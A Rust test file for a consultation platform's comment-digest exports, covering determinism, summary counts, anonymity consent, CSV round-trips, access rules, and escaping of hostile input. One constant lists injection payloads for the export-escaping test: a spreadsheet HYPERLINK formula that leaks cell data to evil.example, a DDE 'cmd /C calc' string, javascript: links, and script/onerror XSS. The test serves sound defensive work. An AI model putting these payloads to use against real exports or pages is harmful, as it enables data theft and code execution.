//! Digest tests: the same input gives the same bytes in every format (snapshots on a fixed
//! dataset and a fixed clock), the summary counts equal the rows listed, consent holds in
//! every format, the CSV reads back, and who may read which digest.
#![cfg(feature = "ssr")]
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::string_slice,
    reason = "test set-up helpers fail the test when they fail"
)]

mod common;

use app::backend::desk;
use app::backend::digest::{self, Scope};
use app::backend::digest_formats::{self, CSV_COLUMNS, Document, Format, Words, render};
use app::backend::entities::comment;
use app::domain::digest::{Digest, DigestFilter};
use app::domain::{AppError, Role, StakeholderGroup, Viewer};
use app::i18n::Locale;
use common::*;
use sea_orm::{ActiveModelTrait, EntityTrait, Set};
use time::macros::datetime;

/// The files' words in English, as a download without `lang` has them.
fn en() -> Words {
    Words::new(Locale::En)
}

/// A fixed dataset: comments with fixed times, one anonymous, a reply, a campaign of two,
/// a disposition, one rejected comment.
async fn dataset() -> World {
    let w = open_world().await;
    let third = person(
        &w.db,
        "cy@example.org",
        "Cy Ruiz",
        StakeholderGroup::PrivateSector,
        "MX",
        Some("Carriers of the Americas"),
        Role::Stakeholder,
    )
    .await;
    let dee = person(
        &w.db,
        "dee@example.org",
        "Dee Adeyemi",
        StakeholderGroup::Government,
        "NG",
        Some("Federal Ministry of Digital Affairs"),
        Role::Stakeholder,
    )
    .await;
    let a = submit(
        &w,
        w.ana,
        "1.1",
        "The scope should name the root zone explicitly.",
        &["root-servers"],
        "name_and_organisation",
    )
    .await;
    let b = submit(
        &w,
        dee,
        "1.1",
        "Governments need a formal role in root zone changes.",
        &["root-servers", "privacy"],
        "anonymous",
    )
    .await;
    let c = submit(
        &w,
        w.ana,
        "",
        "The paper as a whole is balanced, with one gap on capacity building.",
        &["capacity-building"],
        "organisation_only",
    )
    .await;
    let d = submit(&w, w.ben, "", LETTER, &[], "name_and_organisation").await;
    let e = submit(
        &w,
        third,
        "",
        &format!("{LETTER}\n\nCy Ruiz"),
        &[],
        "name_and_organisation",
    )
    .await;
    let rejected = submit(
        &w,
        third,
        "2.1",
        "Buy our routers at a discount, this is an advertisement.",
        &[],
        "name_and_organisation",
    )
    .await;
    for id in [a, b, c, d, e] {
        publish(&w, id).await;
    }
    desk::decide(
        &w.db,
        w.secretariat,
        &[rejected],
        app::domain::comment::CommentStatus::Rejected,
        "Commercial advertising",
    )
    .await
    .unwrap();
    let reply = comments_reply(&w, third, a).await;
    publish(&w, reply).await;
    dispose(&w, a, "accepted", "Paragraph 1.1 will name the root zone.").await;
    // Fixed times: the references and dates do not depend on when the test runs.
    for (i, id) in [a, b, c, d, e, rejected, reply].into_iter().enumerate() {
        let model = comment::Entity::find_by_id(id)
            .one(&w.db)
            .await
            .unwrap()
            .unwrap();
        let mut active: comment::ActiveModel = model.into();
        let at = datetime!(2005-02-20 09:00 UTC) + time::Duration::hours(i as i64);
        active.submitted_at = Set(at);
        active.published_at = Set(Some(at));
        active.update(&w.db).await.unwrap();
    }
    w
}

async fn comments_reply(w: &World, author: i64, parent: i64) -> i64 {
    let target = app::backend::submission::prepare::Target {
        slug: SLUG,
        code: PAPER,
        reply_to: Some(parent),
    };
    submit_as(
        w,
        author,
        target,
        &form(
            "",
            "The scope could also mention the IANA functions.",
            &[],
            "organisation_only",
        ),
    )
    .await
    .unwrap()
    .id
}

async fn build(w: &World, filter: &DigestFilter) -> Digest {
    digest::build(
        &w.db,
        Scope {
            slug: SLUG,
            paper: Some(PAPER),
        },
        filter,
        datetime!(2005-03-01 12:00 UTC),
    )
    .await
    .unwrap()
}

/// The digest for a query's group and dates, with no other filter.
async fn build_queried(w: &World, group: &str, from: &str, to: &str) -> Digest {
    build(
        w,
        &DigestFilter::from_query("", group, "", "", from, to, ""),
    )
    .await
}

/// The CSV as the download streams it.
async fn csv_of(w: &World, filter: &DigestFilter) -> Vec<u8> {
    let scope = Scope {
        slug: SLUG,
        paper: Some(PAPER),
    };
    let selection = digest::Selection::new(&w.db, scope, filter).await.unwrap();
    digest_formats::csv(&w.db, selection, en()).await.unwrap()
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

#[tokio::test]
async fn every_format_is_the_same_for_the_same_input() {
    let w = dataset().await;
    let d = build(&w, &DigestFilter::default()).await;
    assert_eq!(d, build(&w, &DigestFilter::default()).await);
    insta::assert_snapshot!(
        "digest_markdown",
        text(render(&d, Document::Markdown, en()).unwrap())
    );
    insta::assert_snapshot!(
        "digest_csv",
        text(csv_of(&w, &DigestFilter::default()).await)
    );
    insta::assert_snapshot!(
        "digest_json",
        text(render(&d, Document::Json, en()).unwrap())
    );
}

#[tokio::test]
async fn the_docx_opens_with_its_headings_tables_and_comment_references() {
    let w = dataset().await;
    let d = build(&w, &DigestFilter::default()).await;
    let bytes = render(&d, Document::Docx, en()).unwrap();
    assert_eq!(
        bytes,
        render(&d, Document::Docx, en()).unwrap(),
        "the same bytes every time"
    );
    let xml = document_xml(&bytes);
    assert!(xml.contains("Comment digest: \u{2068}Test consultation\u{2069}"));
    assert!(
        xml.contains("w:val=\"Heading2\""),
        "headings are styled as headings"
    );
    assert!(xml.contains("<w:tbl>"), "the summary tables are tables");
    for c in d.comments() {
        assert!(
            xml.contains(&c.reference),
            "{} is in the document",
            c.reference
        );
    }
    assert!(
        !xml.contains("Dee Adeyemi") && !xml.contains("Federal Ministry"),
        "consent holds"
    );
    insta::assert_snapshot!("digest_docx_document", xml);
}

#[tokio::test]
async fn the_summary_counts_equal_the_rows_listed() {
    let w = dataset().await;
    let d = build(&w, &DigestFilter::default()).await;
    let listed = d.comments().count() as u64;
    assert_eq!(
        d.total, 6,
        "five published comments and a published reply; not the rejected one"
    );
    assert_eq!(listed, d.total);
    assert_eq!(
        d.by_group_region.iter().map(|r| r.total).sum::<u64>(),
        listed
    );
    assert_eq!(d.by_paragraph.iter().map(|h| h.count).sum::<u64>(), listed);
    assert_eq!(
        d.by_disposition.iter().map(|c| c.count).sum::<u64>(),
        listed
    );
    assert_eq!(d.campaigns.len(), 1);
    assert_eq!(d.campaigns[0].size, 2);
    // The campaign is listed once, not in the sections.
    assert!(
        d.sections
            .iter()
            .flat_map(|s| &s.groups)
            .flat_map(|g| &g.comments)
            .all(|c| c.campaign.is_none())
    );
    // The reply is under its parent.
    let parent = d.comments().find(|c| c.disposition.is_some()).unwrap();
    assert_eq!(parent.replies.len(), 1);
    // The internal digest has the rejected comment too.
    let internal = build(
        &w,
        &DigestFilter {
            all_statuses: true,
            ..Default::default()
        },
    )
    .await;
    assert_eq!(internal.total, 7);
    // Filters narrow every table alike.
    let government = build_queried(&w, "government", "", "").await;
    assert_eq!(
        government.total, 2,
        "Dee's comment and Ben's campaign comment"
    );
    assert_eq!(government.by_group_region.len(), 1);
    let dated = build_queried(&w, "", "2005-02-20", "2005-02-20").await;
    assert_eq!(dated.total, 6);
    let none = build_queried(&w, "", "2005-02-21", "").await;
    assert_eq!(none.total, 0);
}

#[tokio::test]
async fn an_anonymous_comment_never_shows_a_name_or_an_organisation() {
    let w = dataset().await;
    let d = build(&w, &DigestFilter::default()).await;
    for format in [
        Format::Document(Document::Markdown),
        Format::Csv,
        Format::Document(Document::Json),
        Format::Document(Document::Docx),
    ] {
        let bytes = match format {
            Format::Csv => csv_of(&w, &DigestFilter::default()).await,
            Format::Document(document) => render(&d, document, en()).unwrap(),
        };
        let out = if format == Format::Document(Document::Docx) {
            document_xml(&bytes)
        } else {
            text(bytes)
        };
        assert!(out.contains("Governments need a formal role"), "{format:?}");
        assert!(
            !out.contains("Dee Adeyemi"),
            "{format:?}: the anonymous author is named"
        );
        assert!(
            !out.contains("Federal Ministry"),
            "{format:?}: the anonymous author's organisation shows"
        );
        // Those who consented are named.
        assert!(out.contains("Ben Okafor"), "{format:?}");
    }
}

#[tokio::test]
async fn the_csv_reads_back_with_one_row_per_comment() {
    let w = dataset().await;
    let d = build(&w, &DigestFilter::default()).await;
    let bytes = csv_of(&w, &DigestFilter::default()).await;
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "a byte-order mark for spreadsheets"
    );
    let rows = csv_rows(&bytes, &CSV_COLUMNS);
    assert_eq!(rows.len() as u64, d.total);
    let anonymous = rows
        .iter()
        .find(|r| r[18].starts_with("Governments need"))
        .unwrap();
    assert_eq!(
        (&anonymous[7], &anonymous[8]),
        ("", ""),
        "no name, no organisation"
    );
    assert_eq!(&anonymous[4], "government");
    // Line breaks and commas survive the round trip.
    assert!(rows.iter().any(|r| r[18].contains("\n\nCy Ruiz")));
}

#[tokio::test]
async fn who_may_read_which_digest() {
    let w = dataset().await;
    let stakeholder = Viewer {
        id: w.ana,
        display_name: "Ana".into(),
        role: Role::Stakeholder,
    };
    let officer = Viewer {
        id: w.secretariat,
        display_name: "Sec".into(),
        role: Role::Secretariat,
    };
    let published = DigestFilter::default();
    let internal = DigestFilter {
        all_statuses: true,
        ..Default::default()
    };
    assert_eq!(
        digest::may_read(&w.db, SLUG, None, &published)
            .await
            .unwrap_err(),
        AppError::Unauthorized
    );
    assert_eq!(
        digest::may_read(&w.db, SLUG, Some(&stakeholder), &published)
            .await
            .unwrap_err(),
        AppError::Forbidden
    );
    assert!(
        digest::may_read(&w.db, SLUG, Some(&officer), &internal)
            .await
            .is_ok()
    );
    digest::set_public(&w.db, SLUG, w.secretariat, true)
        .await
        .unwrap();
    assert!(
        digest::may_read(&w.db, SLUG, None, &published)
            .await
            .is_ok()
    );
    assert_eq!(
        digest::may_read(&w.db, SLUG, Some(&stakeholder), &internal)
            .await
            .unwrap_err(),
        AppError::Forbidden
    );
    digest::set_public(&w.db, SLUG, w.secretariat, false)
        .await
        .unwrap();
    assert_eq!(
        digest::may_read(&w.db, SLUG, None, &published)
            .await
            .unwrap_err(),
        AppError::Unauthorized
    );
}

/// What the hostile-export test stores in every field of user text: a formula, each of the
/// other characters that start one, Markdown links and HTML, and a direction override.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "[x](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example>",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "# heading | cell | * item _em_ `code` \\ &amp; ~~s~~",
    "\u{202e}ecnarF \u{2069} \u{2067}x",
];

/// Stores `value` in every field of user text the digest shows, as an older row or an
/// import could hold it (the forms refuse some of these now).
async fn store_everywhere(w: &World, value: &str) {
    use app::backend::entities::{consultation, disposition, tag, working_paper};
    use sea_orm::{ColumnTrait, QueryFilter, sea_query::Expr};
    let value = value.to_owned();
    comment::Entity::update_many()
        .col_expr(comment::Column::Body, Expr::value(value.clone()))
        .col_expr(comment::Column::Quote, Expr::value(Some(value.clone())))
        .col_expr(comment::Column::AuthorName, Expr::value(value.clone()))
        .col_expr(
            comment::Column::AuthorOrganisation,
            Expr::value(Some(value.clone())),
        )
        .exec(&w.db)
        .await
        .unwrap();
    disposition::Entity::update_many()
        .col_expr(disposition::Column::Response, Expr::value(value.clone()))
        .exec(&w.db)
        .await
        .unwrap();
    tag::Entity::update_many()
        .col_expr(
            tag::Column::Names,
            Expr::value(serde_json::json!({ "en": value, "fr": value }).to_string()),
        )
        .exec(&w.db)
        .await
        .unwrap();
    consultation::Entity::update_many()
        .col_expr(consultation::Column::Title, Expr::value(value.clone()))
        .filter(consultation::Column::Slug.eq(SLUG))
        .exec(&w.db)
        .await
        .unwrap();
    working_paper::Entity::update_many()
        .col_expr(working_paper::Column::Title, Expr::value(value.clone()))
        .exec(&w.db)
        .await
        .unwrap();
}

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[tokio::test]
async fn hostile_text_is_data_in_every_export() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let w = dataset().await;
    for value in HOSTILE {
        store_everywhere(&w, value).await;
        let d = build(&w, &DigestFilter::default()).await;

        // CSV: every cell of user text reads back as the value, with a `'` in front when it
        // would start a formula; no cell at all starts one.
        let bytes = csv_of(&w, &DigestFilter::default()).await;
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len() as u64, d.total);
        let expected = if value.starts_with(FORMULA_STARTS) {
            format!("'{value}")
        } else {
            (*value).to_owned()
        };
        for row in &rows {
            for (i, cell) in row.iter().enumerate() {
                assert!(
                    !cell.starts_with(FORMULA_STARTS),
                    "{value:?}: column {} starts a formula: {cell:?}",
                    CSV_COLUMNS[i]
                );
            }
            assert_eq!(&row[18], expected, "body of {value:?}");
            assert!(
                row[7].is_empty() || row[7] == *expected,
                "name {:?} of {value:?}",
                &row[7]
            );
            assert!(
                row[8].is_empty() || row[8] == *expected,
                "organisation of {value:?}"
            );
            assert_eq!(&row[17], expected, "quote of {value:?}");
        }
        assert!(rows.iter().any(|r| r[16] == *expected), "response");

        // Markdown: no HTML and no link or image at all (the digest makes none of its own),
        // and the value is there as text.
        let markdown = text(render(&d, Document::Markdown, en()).unwrap());
        let mut text_of_document = String::new();
        for event in Parser::new_ext(&markdown, Options::ENABLE_TABLES) {
            match event {
                Event::Html(h) | Event::InlineHtml(h) => {
                    panic!("{value:?}: HTML {h:?} in\n{markdown}")
                }
                Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                    panic!("{value:?}: a link to {dest_url:?} in\n{markdown}")
                }
                Event::Start(Tag::Heading { .. }) => text_of_document.push('\n'),
                Event::Text(t) | Event::Code(t) => text_of_document.push_str(&t),
                Event::SoftBreak | Event::HardBreak => text_of_document.push(' '),
                _ => {}
            }
        }
        let one_line = value.replace(['\r', '\n'], " ");
        assert!(
            text_of_document.contains(&format!(
                "\u{2068}{}\u{2069}",
                one_line.replace('\u{2069}', "")
            )),
            "{value:?} as text in\n{markdown}"
        );
        assert!(
            text_of_document.contains("\nComment digest: \u{2068}"),
            "the heading stays one heading: {markdown}"
        );

        // DOCX: well-formed XML that holds the value as text.
        let xml = document_xml(&render(&d, Document::Docx, en()).unwrap());
        let mut reader = quick_xml::Reader::from_str(&xml);
        let mut texts = String::new();
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(quick_xml::events::Event::Text(t)) => {
                    texts.push_str(&t.decode().unwrap());
                }
                Ok(quick_xml::events::Event::GeneralRef(r)) => {
                    texts.push_str(&format!("&{};", r.decode().unwrap()));
                }
                Ok(_) => {}
                Err(e) => panic!(
                    "{value:?}: not well-formed at {}: {e}",
                    reader.buffer_position()
                ),
            }
        }
        let unescaped = quick_xml::escape::unescape(&texts).unwrap();
        assert!(
            unescaped.contains(value.trim_start_matches(['\t', '\r'])),
            "{value:?} in the document's text"
        );
    }
}

/// The section under `heading` in a Markdown digest, up to the next of its level.
fn markdown_section<'a>(markdown: &'a str, heading: &str) -> &'a str {
    let start = markdown
        .find(&format!("\n### {heading}\n"))
        .unwrap_or_else(|| panic!("no section {heading} in:\n{markdown}"));
    let rest = &markdown[start + 1..];
    rest.find("\n### ").map_or(rest, |end| &rest[..end])
}

#[tokio::test]
async fn each_paragraph_keeps_its_own_text_when_two_papers_share_its_number() {
    use app::backend::consultations::{self, NewPaper};
    use app::backend::entities::consultation;
    use app::backend::submission::prepare::Target;
    use app::domain::IssueCluster;
    let w = open_world().await;
    let consultation = consultation::Entity::find()
        .one(&w.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    consultations::create_paper(
        &w.db,
        consultation,
        NewPaper {
            code: "WP-OTHER",
            title: "Another paper",
            abstract_text: "",
            cluster: IssueCluster::Infrastructure,
            markdown: "## Names\n\nThe first paragraph of the other paper.\n",
            language: "en",
        },
    )
    .await
    .unwrap();
    let here = submit(&w, w.ana, "1.1", "On 1.1 of this paper.", &[], "anonymous").await;
    let there = submit_as(
        &w,
        w.ben,
        Target {
            slug: SLUG,
            code: "WP-OTHER",
            reply_to: None,
        },
        &form("1.1", "On 1.1 of the other paper.", &[], "anonymous"),
    )
    .await
    .unwrap()
    .id;
    publish(&w, here).await;
    publish(&w, there).await;
    let d = digest::build(
        &w.db,
        Scope {
            slug: SLUG,
            paper: None,
        },
        &DigestFilter::default(),
        datetime!(2005-03-01 12:00 UTC),
    )
    .await
    .unwrap();
    let texts: Vec<(&str, Option<&str>)> = d
        .sections
        .iter()
        .map(|s| (s.paper_code.as_str(), s.paragraph_text.as_deref()))
        .collect();
    assert_eq!(
        texts,
        [
            ("WP-OTHER", Some("The first paragraph of the other paper.")),
            (PAPER, Some("The first paragraph of the scope.")),
        ]
    );
    // What a drafter reads: each paper's 1.1 under its own text, in every format.
    // Markdown escapes punctuation and isolates user text: read it as a person would.
    let markdown = text(render(&d, Document::Markdown, en()).unwrap())
        .replace('\\', "")
        .replace(['\u{2068}', '\u{2069}'], "");
    let other = markdown_section(&markdown, "WP-OTHER ¶ 1.1");
    assert!(
        other.contains("The first paragraph of the other paper."),
        "{other}"
    );
    assert!(other.contains("On 1.1 of the other paper."), "{other}");
    assert!(
        !other.contains("The first paragraph of the scope."),
        "{other}"
    );
    let this = markdown_section(&markdown, &format!("{PAPER} ¶ 1.1"));
    assert!(this.contains("The first paragraph of the scope."), "{this}");
    assert!(!this.contains("of the other paper"), "{this}");
    let docx = document_xml(&render(&d, Document::Docx, en()).unwrap());
    let other_at = docx
        .find("The first paragraph of the other paper.")
        .unwrap();
    let this_at = docx.find("The first paragraph of the scope.").unwrap();
    let other_comment = docx.find("On 1.1 of the other paper.").unwrap();
    let this_comment = docx.find("On 1.1 of this paper.").unwrap();
    assert!(other_at < other_comment && other_comment < this_at && this_at < this_comment);
}

/// The text read from the contribution's file, shorter than the digest's excerpt.
const CONTRIBUTION_TEXT: &str = "Multistakeholder governance of the Internet is the way decisions on its names, numbers and protocols are shared among governments, companies, civil society and the technical community.";

/// A contribution by Ana, on the paper or on the consultation as a whole, with one text
/// file (`sha256` tells the stored files apart), stored as sending and deciding it would
/// leave it: its id.
async fn stored_contribution(
    w: &World,
    title: &str,
    status: app::domain::comment::CommentStatus,
    on_the_paper: bool,
    sha256: &str,
) -> i64 {
    use app::backend::entities::{
        consultation, contribution, contribution_file, stored_file, working_paper,
    };
    use app::domain::comment::{CommentStatus, Consent};
    use app::domain::contributions::FileKind;
    use app::domain::{Capacity, countries};
    let consultation = consultation::Entity::find()
        .one(&w.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    let paper = working_paper::Entity::find()
        .one(&w.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    let at = datetime!(2005-02-21 10:00 UTC);
    let file = stored_file::ActiveModel {
        sha256: Set(sha256.to_owned()),
        size: Set(CONTRIBUTION_TEXT.len() as i64),
        kind: Set(FileKind::Text),
        pages: Set(None),
        text: Set(Some(CONTRIBUTION_TEXT.to_owned())),
        created_at: Set(at),
        ..Default::default()
    }
    .insert(&w.db)
    .await
    .unwrap();
    let row = contribution::ActiveModel {
        consultation_id: Set(consultation),
        paper_id: Set(on_the_paper.then_some(paper)),
        author_id: Set(w.ana),
        title: Set(title.to_owned()),
        summary: Set("=1+1, a summary that would be a formula".to_owned()),
        consent: Set(Consent::NameAndOrganisation),
        author_name: Set("Ana Souza".to_owned()),
        author_group: Set(StakeholderGroup::CivilSociety),
        author_country: Set("BR".to_owned()),
        author_region: Set(countries::country("BR").unwrap().region.code().to_owned()),
        author_organisation: Set(Some("Instituto Nupef".to_owned())),
        author_capacity: Set(Capacity::Organisation),
        status: Set(status),
        status_reason: Set(None),
        search_text: Set(format!("{title}\n{CONTRIBUTION_TEXT}").to_lowercase()),
        submitted_at: Set(at),
        published_at: Set((status == CommentStatus::Published).then_some(at)),
        form_token: Set(None),
        ..Default::default()
    }
    .insert(&w.db)
    .await
    .unwrap();
    contribution_file::ActiveModel {
        contribution_id: Set(row.id),
        position: Set(1),
        file_id: Set(file.id),
        name: Set("position-paper.txt".to_owned()),
    }
    .insert(&w.db)
    .await
    .unwrap();
    row.id
}

/// The text of a DOCX's document, its entities decoded.
fn docx_text(bytes: &[u8]) -> String {
    let xml = document_xml(bytes);
    let mut reader = quick_xml::Reader::from_str(&xml);
    let mut texts = String::new();
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Eof => break,
            quick_xml::events::Event::Text(t) => texts.push_str(&t.decode().unwrap()),
            quick_xml::events::Event::GeneralRef(r) => {
                texts.push_str(&format!("&{};", r.decode().unwrap()));
            }
            _ => {}
        }
    }
    quick_xml::escape::unescape(&texts).unwrap().into_owned()
}

#[tokio::test]
async fn published_contributions_are_listed_with_an_excerpt_in_every_format() {
    use app::domain::comment::CommentStatus;
    use app::domain::contributions::reference;
    use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag};
    const TITLE: &str = "# <b>Title</b> [x](javascript:alert(1))";
    let w = open_world().await;
    let listed = stored_contribution(&w, TITLE, CommentStatus::Published, true, "a1").await;
    stored_contribution(&w, "Pending paper", CommentStatus::Pending, true, "b2").await;
    let elsewhere =
        stored_contribution(&w, "On the whole", CommentStatus::Published, false, "c3").await;

    // The paper's digest: the published contribution on the paper only.
    let d = build(&w, &DigestFilter::default()).await;
    let listed_refs: Vec<&str> = d
        .contributions
        .iter()
        .map(|c| c.card.reference.as_str())
        .collect();
    assert_eq!(listed_refs, [reference(listed)]);
    let c = &d.contributions[0];
    assert_eq!(c.card.title, TITLE);
    assert_eq!(c.excerpt, CONTRIBUTION_TEXT);
    assert_eq!(c.url, format!("/contributions/{listed}"));
    assert_eq!(c.card.author.name.as_deref(), Some("Ana Souza"));
    assert_eq!(c.card.files.len(), 1);
    // The consultation's digest has the one on no paper too, newest first (at the same
    // time, the later one); a group filter narrows them as it does the comments.
    let whole = digest::build(
        &w.db,
        Scope {
            slug: SLUG,
            paper: None,
        },
        &DigestFilter::default(),
        datetime!(2005-03-01 12:00 UTC),
    )
    .await
    .unwrap();
    let whole_refs: Vec<String> = whole
        .contributions
        .iter()
        .map(|c| c.card.reference.clone())
        .collect();
    assert_eq!(whole_refs, [reference(elsewhere), reference(listed)]);
    let government = build_queried(&w, "government", "", "").await;
    assert!(government.contributions.is_empty());

    // Markdown: a section of its own; the hostile title is text, not a heading, a link or
    // HTML.
    let markdown = text(render(&d, Document::Markdown, en()).unwrap());
    assert!(markdown.contains("\n## Contributions\n"), "{markdown}");
    let mut level_one = 0;
    let mut text_of_document = String::new();
    for event in Parser::new_ext(&markdown, Options::ENABLE_TABLES) {
        match event {
            Event::Html(h) | Event::InlineHtml(h) => panic!("HTML {h:?} in\n{markdown}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                panic!("a link to {dest_url:?} in\n{markdown}")
            }
            Event::Start(Tag::Heading {
                level: HeadingLevel::H1,
                ..
            }) => level_one += 1,
            Event::Text(t) | Event::Code(t) => text_of_document.push_str(&t),
            Event::SoftBreak | Event::HardBreak => text_of_document.push(' '),
            _ => {}
        }
    }
    assert_eq!(level_one, 1, "the digest's title only:\n{markdown}");
    assert!(
        text_of_document.contains(&format!("\u{2068}{TITLE}\u{2069}")),
        "{markdown}"
    );
    assert!(text_of_document.contains(CONTRIBUTION_TEXT), "{markdown}");
    assert!(text_of_document.contains("Ana Souza"), "{markdown}");
    assert!(
        text_of_document.contains("position-paper.txt"),
        "{markdown}"
    );
    assert!(!markdown.contains("Pending paper") && !markdown.contains("On the whole"));

    // DOCX: the title and the excerpt, under a heading of their own.
    let docx = docx_text(&render(&d, Document::Docx, en()).unwrap());
    assert!(docx.contains("Contributions"), "{docx}");
    assert!(docx.contains(TITLE), "{docx}");
    assert!(docx.contains(CONTRIBUTION_TEXT), "{docx}");
    assert!(!docx.contains("Pending paper"), "{docx}");

    // JSON carries every field; the CSV of contributions reads back, formulas guarded.
    let json = text(render(&d, Document::Json, en()).unwrap());
    assert!(json.contains("\"contributions\"") && json.contains(CONTRIBUTION_TEXT));
    let bytes = digest_formats::contributions_csv(&d.contributions).unwrap();
    let rows = csv_rows(&bytes, &digest_formats::CONTRIBUTION_COLUMNS);
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(&row[0], reference(listed));
    assert_eq!(&row[1], TITLE);
    assert_eq!(&row[2], "'=1+1, a summary that would be a formula");
    assert_eq!((&row[3], &row[4]), ("Ana Souza", "Instituto Nupef"));
    assert_eq!(&row[5], "civil_society");
    assert_eq!(&row[8], PAPER);
    assert_eq!(&row[10], format!("/contributions/{listed}"));
    assert_eq!(&row[11], "position-paper.txt");
    assert_eq!(&row[12], CONTRIBUTION_TEXT);
}
